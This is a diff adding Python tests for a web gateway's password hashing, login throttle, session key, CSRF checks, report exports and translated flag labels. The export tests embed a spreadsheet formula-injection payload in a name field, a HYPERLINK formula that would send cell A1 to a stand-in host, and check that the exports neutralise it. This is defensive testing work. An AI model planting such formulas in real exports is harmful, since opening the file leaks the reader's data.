@@ -1,0 +1,138 @@
+"""The web's pieces without a browser: password hashing, the login throttle, the
+session key file, the downloads' formula neutralisation, the flag labels."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import stat
+import zipfile
+from datetime import UTC, date, datetime, timedelta
+from pathlib import Path
+
+from openpyxl import load_workbook
+
+from gateway.reports.rules import Rules
+from gateway.reports.service import Report
+from gateway.reports.sessions import DayReport
+from gateway.web import exports, security
+from gateway.web.i18n import TEXTS, flag_label, translator
+from tests.reports.helpers import MADRID
+
+
+def test_passwords_are_hashed_and_verified() -> None:
+    hashed = security.hash_password("correct horse battery")
+    assert hashed.startswith("$argon2id$") and "correct" not in hashed
+    assert security.verify_password(hashed, "correct horse battery")
+    assert not security.verify_password(hashed, "wrong")
+    assert not security.verify_password(None, "anything at all")  # no such admin
+    assert not security.verify_password("not a hash", "x")
+    assert security.hash_fingerprint(hashed) != security.hash_fingerprint(
+        security.hash_password("correct horse battery")
+    )
+
+
+def test_the_throttle_doubles_the_wait_after_a_few_failures() -> None:
+    now = [1000.0]
+    throttle = security.LoginThrottle(clock=lambda: now[0])
+    keys = ("addr:192.0.2.1", "user:ana")
+    waits = [throttle.failed(*keys) for _ in range(6)]
+    assert waits == [0.0, 0.0, 0.0, 2.0, 4.0, 8.0]
+    assert throttle.wait_left(*keys) == 8.0
+    assert throttle.wait_left("addr:192.0.2.1", "user:other") == 8.0  # same address
+    assert throttle.wait_left("addr:192.0.2.2", "user:ana") == 8.0  # same username
+    assert throttle.wait_left("addr:192.0.2.2", "user:bob") == 0.0
+    now[0] += 8.5
+    assert throttle.wait_left(*keys) == 0.0
+    throttle.succeeded(*keys)
+    assert throttle.failed(*keys) == 0.0  # counting starts again
+
+
+def test_the_throttle_caps_its_wait_and_its_memory() -> None:
+    now = [0.0]
+    throttle = security.LoginThrottle(clock=lambda: now[0])
+    for _ in range(40):
+        wait = throttle.failed("addr:x")
+    assert wait == security.LoginThrottle.CAP
+    throttle.MAX_KEYS = 100
+    for i in range(300):
+        now[0] += 1
+        throttle.failed(f"addr:{i}")
+    assert len(throttle._keys) <= 100
+
+
+def test_the_session_key_is_created_private_and_kept(tmp_path: Path) -> None:
+    path = tmp_path / "state" / "web-session.key"
+    key = security.load_or_create_secret(path)
+    assert len(key) >= 32
+    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
+    assert security.load_or_create_secret(path) == key
+
+
+def test_csrf_tokens_compare_in_constant_time_and_refuse_missing_ones() -> None:
+    token = security.new_csrf_token()
+    assert security.csrf_ok(token, token)
+    assert not security.csrf_ok(token, token[:-1] + "x")
+    assert not security.csrf_ok(token, None)
+    assert not security.csrf_ok(None, None)
+    assert not security.csrf_ok("", "")
+
+
+def _report(name: str) -> Report:
+    day = DayReport(
+        person_uid="mallory",
+        day=date(2026, 11, 23),
+        first_in=datetime(2026, 11, 23, 7, tzinfo=UTC),
+        last_out=None,
+        worked=timedelta(0),
+        sessions=0,
+        scheduled=timedelta(hours=6),
+        missing_out=1,
+        out_without_in=0,
+        duplicates=0,
+        late_minutes=0,
+        absent=False,
+        open_since=None,
+    )
+    return Report(
+        date(2026, 11, 1),
+        date(2026, 11, 30),
+        Rules(zone=MADRID),
+        datetime(2026, 11, 30, tzinfo=UTC),
+        {"mallory": name},
+        [day],
+        [],
+    )
+
+
+EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"Ana")'
+
+
+def test_the_csv_download_neutralises_formulas_and_opens_in_a_spanish_excel() -> None:
+    body = exports.report_csv(_report(EVIL), "es")
+    assert body.startswith("\ufeff".encode())  # the BOM: Excel then reads UTF-8
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
+    assert rows[0][:3] == ["kind", "uid", "name"]
+    assert rows[1][2] == "'" + EVIL
+    for cell in (c for row in rows for c in row):
+        assert not cell.startswith(("=", "+", "@", "\t", "\r")) or cell == ""
+    assert exports.report_csv(_report("Ana"), "en").decode("utf-8-sig").split("\r\n")[0].count(",")
+
+
+def test_the_xlsx_download_has_no_formula() -> None:
+    body = exports.report_xlsx(_report(EVIL))
+    with zipfile.ZipFile(io.BytesIO(body)) as book:
+        sheet = book.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet  # no formula element anywhere
+    cells = [c.value for row in load_workbook(io.BytesIO(body)).active.iter_rows() for c in row]
+    assert "'" + EVIL in cells
+
+
+def test_flag_labels_in_both_languages() -> None:
+    es, en = translator("es"), translator("en")
+    assert flag_label(es, "late=26min") == ("tarde 26min", "late")
+    assert flag_label(es, "missing-outx2") == ("sin salida ×2", "missing-out")
+    assert flag_label(en, "out-without-in") == ("out-without-in", "out-without-in")
+    assert flag_label(es, "corrected") == ("corregido", "corrected")
+    assert set(TEXTS["es"]) == set(TEXTS["en"])  # no key only one language has
